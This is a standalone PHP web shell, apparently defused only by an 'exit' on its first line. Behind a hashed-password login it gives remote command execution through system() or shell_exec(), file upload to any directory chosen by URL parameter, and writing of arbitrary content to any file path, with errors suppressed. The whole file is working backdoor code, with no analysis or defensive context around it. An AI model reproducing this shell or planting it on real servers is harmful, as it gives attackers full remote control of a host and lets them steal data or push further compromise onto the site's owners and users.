<?php exit; /* inert */ session_start();
error_reporting(0);
set_time_limit(0);
$auth_pass = "6b5e1e0bb0d9c5c1b5d1b0ed1b0f2cb1";
function login_shell() { ?>
<form method="post"><input type="password" name="password"></form>
<?php exit; }
if (!isset($_SESSION[md5($_SERVER['HTTP_HOST'])]))
    if (empty($auth_pass) || (isset($_POST['password']) && (md5($_POST['password']) == $auth_pass)))
        $_SESSION[md5($_SERVER['HTTP_HOST'])] = true;
    else
        login_shell();
function exe($cmd) {
    if (function_exists('system')) { @ob_start(); @system($cmd); $buff = @ob_get_contents(); @ob_end_clean(); return $buff; }
    elseif (function_exists('shell_exec')) { $buff = @shell_exec($cmd); return $buff; }
}
if (isset($_GET['dir'])) { $dir = $_GET['dir']; chdir($dir); } else { $dir = getcwd(); }
echo "[ <a href='?dir=$dir&do=upload'>Upload</a> ][ <a href='?dir=$dir&do=cmd'>Command</a> ][ <a href='?kill=true'>Kill</a> ]";
if ($_GET['do'] == 'upload') {
    if ($_POST['upload']) {
        if (@copy($_FILES['ix_file']['tmp_name'], "$dir/" . $_FILES['ix_file']['name'] . "")) { $act = "<i>Uploaded!</i>"; }
        else { $act = "failed to upload file"; }
    }
    echo "<form method='post' enctype='multipart/form-data'><input type='file' name='ix_file'><input type='submit' name='upload'></form>$act";
} elseif ($_GET['do'] == 'cmd') {
    echo "<form method='post'><input type='text' name='cmd'><input type='submit' name='do_cmd' value='>>'></form>";
    if ($_POST['do_cmd']) { echo "<pre>" . exe($_POST['cmd']) . "</pre>"; }
} elseif ($_GET['act'] == 'edit') {
    if ($_POST['save']) { $save = file_put_contents($_GET['file'], $_POST['src']); }
    echo "<textarea name='src'>" . htmlspecialchars(@file_get_contents($_GET['file'])) . "</textarea>";
}
